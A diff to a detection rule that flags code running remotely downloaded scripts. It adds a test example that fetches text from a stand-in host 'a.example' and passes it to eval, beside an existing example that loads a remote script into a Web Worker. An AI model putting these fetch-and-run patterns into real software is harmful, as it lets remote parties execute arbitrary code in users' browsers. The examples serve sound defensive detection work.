@@ -34,6 +34,11 @@ export const runsDownloadedCode = defineRule({
   examples: {
     found: [
       js(
+        `const host = window.GetParentResourceName ? GetParentResourceName() : 'a.example'
+^fetch(\`https://\${host}/\${name}\`).then((answer) => answer.text()).then(eval)`,
+        'page',
+      ),
+      js(
         `const text = "importScripts('https://a.example/a.js')"
 ^new Worker(URL.createObjectURL(new Blob([text])))`,
         'page',
